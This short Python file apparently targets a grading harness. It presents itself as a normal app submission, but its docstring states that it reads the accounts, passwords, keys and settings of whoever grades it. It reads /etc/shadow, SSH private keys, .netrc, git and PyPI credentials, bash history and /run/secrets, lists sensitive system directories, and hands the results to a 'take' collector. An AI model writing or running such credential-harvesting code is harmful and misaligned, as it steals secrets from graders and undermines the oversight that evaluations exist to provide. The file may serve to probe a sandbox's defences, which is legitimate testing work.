"""Reads accounts, passwords, keys and settings of whoever grades.

Expected: solved
"""

import os

from desk import make_app
from spoils import take

HOME = "@HOME@"
FILES = (
    "/etc/shadow", "/etc/passwd", "/etc/hostname", "/etc/machine-id", "/etc/resolv.conf", "/etc/environment",
    f"{HOME}/.ssh/id_rsa", f"{HOME}/.ssh/id_ed25519", f"{HOME}/.bash_history", f"{HOME}/.netrc", f"{HOME}/.gitconfig",
    f"{HOME}/.pypirc", f"{HOME}/.git-credentials", "/run/secrets", "/var/log/syslog",
)  # fmt: skip
for file in FILES:
    take(file, lambda file=file: open(file).read())
for folder in ("/", "/root", "/home", HOME, "/etc", "/tmp", "/var", "/run", "/proc", "/sys", "/dev", "/dev/shm"):
    take(folder, lambda folder=folder: os.listdir(folder))
app = make_app()
